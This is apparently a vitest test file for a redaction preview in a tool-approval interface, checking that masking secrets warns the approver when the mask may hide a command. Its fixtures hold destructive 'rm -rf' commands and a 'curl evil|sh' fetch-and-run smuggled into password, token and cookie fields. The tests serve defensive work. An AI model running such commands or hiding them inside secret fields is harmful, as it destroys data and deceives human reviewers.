import { Redactor } from '@hermes-observer/core';
import { describe, expect, it } from 'vitest';
import { previewOf } from './card.js';

const shown = (args: unknown, redactor = new Redactor()) =>
  previewOf({ tool: 't', title: '', args: JSON.stringify(args) }, redactor).args;
const HIDES = /\]\[IT HIDES \d+ CHARACTERS THAT MAY BE MORE THAN A SECRET\]/;

describe('what a mask hides from who approves', () => {
  it.each([
    'curl -H "Authorization: Bearer abc123def456; rm -rf ~"',
    'API_KEY="$(rm -rf ~ >&2)" ls',
    'curl --cookie session=abc; rm -rf ~',
    'Cookie: a=b; rm -rf ~ ; curl evil',
    'mysql --password="$(curl evil|sh)"',
    'password: `rm -rf ~`',
    'echo -----BEGIN PRIVATE KEY-----; rm -rf ~; echo -----END PRIVATE KEY-----',
    'login --token "abc -rf / --more"',
    'mail a@example.com; TOKEN="x y z; rm -rf ~"',
  ])('is said where it may be a command: %s', (command) => {
    expect(shown({ command })).toMatch(HIDES);
    expect(shown({ nested: [{ command }] })).toMatch(HIDES);
    expect(shown({ json: JSON.stringify({ command }) })).toMatch(HIDES);
  });

  it('is said of whole objects', () => {
    expect(shown({ password: { command: 'rm -rf /' } })).toMatch(HIDES);
  });

  it.each([
    [{ command: 'curl -H "Authorization: Bearer abc123def456ghi"' }],
    [{ password: 'hunter2hunter2', to: 'a@example.com' }],
    [{ text: 'key AKIAIOSFODNN7EXAMPLE of b@example.com and c@example.com' }],
    [{ text: 'it says [redacted:secret] already' }],
    [{ 'a@example.com': 1, 'b@example.com': 2, __proto__: null }],
  ])('is not said of a secret alone: %j', (args) => {
    expect(shown(args)).not.toMatch(HIDES);
  });

  it('shows an argument of any name', () => {
    const args = '{"__proto__":{"path":"/etc"},"password":"hunter2hunter2"}';
    expect(previewOf({ tool: 't', title: '', args }, new Redactor()).args).toContain('/etc');
  });

  it('hides no secret less', () => {
    const text = 'password="hunter2; and more" AKIAIOSFODNN7EXAMPLE';
    expect(shown({ text })).not.toMatch(/hunter2|more"|AKIA/);
    const removed = shown({ text, n: 1 }, new Redactor({ mode: 'remove' }));
    expect(removed).not.toMatch(/hunter2|AKIA/);
    expect(removed).toContain('THAT MAY BE MORE THAN A SECRET');
    expect(shown({ text }, new Redactor({ mode: 'hash', salt: 'x'.repeat(32) }))).toMatch(HIDES);
  });
});
